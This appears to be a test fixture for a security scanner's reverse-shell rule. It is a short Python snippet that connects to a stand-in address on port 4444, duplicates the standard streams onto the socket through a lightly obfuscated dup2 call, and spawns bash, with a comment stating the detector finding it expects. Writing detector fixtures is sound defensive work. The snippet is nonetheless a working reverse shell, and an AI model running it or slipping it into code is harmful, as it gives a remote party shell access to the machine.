import socket as so, os as o, pty
s = so.socket(so.AF_INET, so.SOCK_STREAM)
s.connect(("203.0.113.5", 4444))
[getattr(o, 'dup' + '2')(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn("/bin/bash")  # want "SV153: reverse shell: socket duplicated .*line 4.* /bin/bash spawned"
